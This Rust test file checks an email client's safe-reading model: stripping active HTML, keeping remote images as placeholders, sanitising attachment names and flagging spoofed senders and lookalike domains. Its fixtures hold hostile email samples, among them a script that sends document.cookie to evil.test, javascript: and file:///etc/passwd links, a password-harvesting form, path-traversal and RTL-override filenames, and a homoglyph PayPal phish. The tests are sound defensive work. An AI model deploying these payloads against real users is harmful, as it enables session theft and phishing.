//! Reading safely, through the reader model every front end uses: nothing active in a
//! message survives (scripts, handlers, frames, forms, refreshes, `javascript:` links),
//! remote content is only ever a placeholder and never comes along into a reply or a
//! forward, attachment names are safe to save and show their real extension, links show
//! their real target, and deceptive senders, links and domains are flagged. Also: every
//! message of the hostile corpus reads without a panic.

use tidings::engine::compose::{self, Identity};
use tidings::engine::message::{Block, ImageSource, Inline, ReadMessage};
use tidings::engine::safety::Warning;

use crate::hostile_corpus::corpus;

const ACTIVE: &[u8] = b"From: Mallory <mallory@example.test>\r\n\
To: alice@example.test\r\n\
Subject: active content\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/related; boundary=R\r\n\
\r\n\
--R\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><head>\
<meta http-equiv=\"refresh\" content=\"0; url=https://evil.test/\">\
<base href=\"https://evil.test/\">\
<link rel=\"stylesheet\" href=\"https://evil.test/track.css\">\
<style>body{background:url(https://evil.test/bg.png)}</style>\
<script>document.location='https://evil.test/?'+document.cookie</script>\
</head><body onload=\"steal()\">\
<p>Dear customer, <a href=\"javascript:steal()\">log in here</a>.</p>\
<p><a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a> \
<a href=\"file:///etc/passwd\">local</a> <a href=\"vbscript:msgbox(1)\">vb</a></p>\
<iframe src=\"https://evil.test/frame\">framed text</iframe>\
<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/e\">\
<form action=\"https://evil.test/post\"><input name=\"password\" type=\"password\"></form>\
<svg><script>alert(2)</script></svg>\
<img src=\"https://tracker.test/pixel.gif\" onerror=\"steal()\" alt=\"pixel\">\
<img src=\"cid:logo@here\" alt=\"logo\">\
<p><a href=\"https://evil.test/login\">https://bank.test/login</a></p>\
</body></html>\r\n\
--R\r\n\
Content-Type: image/png\r\n\
Content-ID: <logo@here>\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
iVBORw0KGgo=\r\n\
--R--\r\n";

fn all_text(blocks: &[Block]) -> String {
    format!("{blocks:?}")
}

fn links(blocks: &[Block], out: &mut Vec<String>) {
    for b in blocks {
        match b {
            Block::Paragraph { content } | Block::Heading { content, .. } => {
                for i in content {
                    match i {
                        Inline::Text(s) => out.extend(s.link.clone()),
                        Inline::Image(img) => out.extend(img.link.clone()),
                        Inline::Break => {}
                    }
                }
            }
            Block::List { items, .. } => items.iter().for_each(|i| links(i, out)),
            Block::Quote { blocks } => links(blocks, out),
            Block::Preformatted { .. } | Block::Rule => {}
        }
    }
}

#[test]
fn nothing_active_survives_and_remote_content_stays_a_placeholder() {
    let m = ReadMessage::parse(ACTIVE);
    let shown = all_text(&m.body) + &m.text;
    for active in [
        "document.location",
        "steal()",
        "alert(",
        "msgbox",
        "background:url",
    ] {
        assert!(!shown.contains(active), "{active} survived: {shown}");
    }
    let mut targets = Vec::new();
    links(&m.body, &mut targets);
    assert!(!targets.is_empty());
    for t in &targets {
        assert!(
            t.starts_with("https://") || t.starts_with("http://") || t.starts_with("mailto:"),
            "a link that is not a web or mail link: {t}"
        );
    }
    // The remote image is a placeholder that says so; the embedded one is found.
    assert_eq!(m.remote_images, 1);
    let images: Vec<&ImageSource> = m
        .body
        .iter()
        .flat_map(|b| match b {
            Block::Paragraph { content } => content
                .iter()
                .filter_map(|i| match i {
                    Inline::Image(img) => Some(&img.source),
                    _ => None,
                })
                .collect(),
            _ => Vec::new(),
        })
        .collect();
    assert!(
        images
            .iter()
            .any(|s| matches!(s, ImageSource::Remote { url } if url.contains("tracker.test")))
    );
    assert!(images.iter().any(|s| matches!(
        s,
        ImageSource::Embedded {
            attachment: Some(_),
            ..
        }
    )));
    // What was dropped and what deceives is said.
    assert!(
        m.warnings.iter().any(
            |w| matches!(w, Warning::UnsafeLink { target } if target.starts_with("javascript:"))
        )
    );
    assert!(m.warnings.iter().any(|w| matches!(w, Warning::LinkTextDiffers { target, .. } if target == "https://evil.test/login")));
}

#[test]
fn replies_and_forwards_carry_no_remote_or_active_content() {
    let me = Identity {
        name: "Alice".into(),
        addresses: vec!["alice@example.test".into()],
        signature: String::new(),
    };
    for (what, out) in [
        ("reply", compose::reply(ACTIVE, &me).expect("reply")),
        (
            "reply all",
            compose::reply_all(ACTIVE, &me).expect("reply all"),
        ),
        (
            "forward",
            compose::forward_inline(ACTIVE, &me).expect("forward"),
        ),
    ] {
        assert!(out.html.is_none(), "{what} carries HTML");
        for remote in [
            "tracker.test",
            "track.css",
            "bg.png",
            "<img",
            "<script",
            "<iframe",
            "document.location",
        ] {
            assert!(
                !out.text.contains(remote),
                "{what} carries {remote}: {}",
                out.text
            );
        }
        for a in &out.attachments {
            // An embedded image may come along as a file; nothing that loads from the net.
            assert!(!a.data.windows(12).any(|w| w == b"https://evil"), "{what}");
        }
    }
}

#[test]
fn attachment_names_are_safe_and_show_their_real_extension() {
    let raw = "From: a@b.test\r\nSubject: names\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=N\r\n\r\n\
--N\r\nContent-Disposition: attachment; filename=\"..\\\\..\\\\Windows\\\\evil.dll\"\r\n\r\nx\r\n\
--N\r\nContent-Disposition: attachment; filename=\"../../../home/alice/.bashrc\"\r\n\r\nx\r\n\
--N\r\nContent-Disposition: attachment; filename=\"CON.txt\"\r\n\r\nx\r\n\
--N\r\nContent-Disposition: attachment; filename=\"Rechnung\u{202e}fdp.exe\"\r\n\r\nx\r\n\
--N\r\nContent-Disposition: attachment; filename=\"photo.jpg                    .scr\"\r\n\r\nx\r\n\
--N\r\nContent-Disposition: attachment; filename=\"..\"\r\n\r\nx\r\n\
--N--\r\n";
    let m = ReadMessage::parse(raw.as_bytes());
    let got: Vec<(String, Option<String>, bool)> = m
        .attachments
        .iter()
        .map(|a| (a.file_name.clone(), a.extension.clone(), a.risky))
        .collect();
    assert_eq!(
        got,
        vec![
            ("evil.dll".into(), Some("dll".into()), true),
            ("bashrc".into(), None, false),
            ("_CON.txt".into(), Some("txt".into()), false),
            ("Rechnungfdp.exe".into(), Some("exe".into()), true),
            ("photo.jpg .scr".into(), Some("scr".into()), true),
            ("attachment".into(), None, false),
        ]
    );
    for a in &m.attachments {
        assert!(!a.name.contains('\u{202e}'), "{:?}", a.name);
        let path = std::path::Path::new("/downloads").join(&a.file_name);
        assert_eq!(path.parent(), Some(std::path::Path::new("/downloads")));
    }
}

#[test]
fn deceptive_senders_and_domains_are_flagged_and_shown_in_punycode() {
    let raw = "From: \"service@paypal.test\" <mallory@evil.test>\r\n\
Reply-To: PayPal <billing@p\u{430}ypal.test>\r\n\
To: alice@example.test\r\nSubject: urgent\r\n\r\nsee https://p\u{430}ypal.test/login now\r\n";
    let m = ReadMessage::parse(raw.as_bytes());
    assert!(m.warnings.contains(&Warning::NameHidesAddress {
        name: "service@paypal.test".into(),
        shown: "service@paypal.test".into(),
        address: "mallory@evil.test".into(),
    }));
    assert!(m.reply_to[0].address.starts_with("billing@xn--"));
    assert!(m.reply_to[0].address.is_ascii());
    let mut targets = Vec::new();
    links(&m.body, &mut targets);
    assert_eq!(targets.len(), 1);
    assert!(
        targets[0].starts_with("https://xn--") && targets[0].is_ascii(),
        "{targets:?}"
    );
    assert!(
        m.warnings
            .iter()
            .any(|w| matches!(w, Warning::ConfusableDomain { .. }))
    );
    // A plain internationalised domain in one script is shown as written.
    let ok = "From: M\u{fc}ller <m@m\u{fc}ller.test>\r\nSubject: hi\r\n\r\nhi\r\n";
    let m = ReadMessage::parse(ok.as_bytes());
    assert_eq!(m.from[0].address, "m@m\u{fc}ller.test");
    assert!(m.warnings.is_empty(), "{:?}", m.warnings);
}

#[test]
fn every_hostile_message_reads_without_a_panic() {
    for h in corpus(false) {
        let read = std::panic::catch_unwind(|| ReadMessage::parse(&h.raw));
        let Ok(m) = read else {
            panic!("reading {:?} panicked", h.name);
        };
        for a in &m.attachments {
            assert!(
                !a.file_name.contains(['/', '\\']),
                "{}: {:?}",
                h.name,
                a.file_name
            );
        }
    }
}
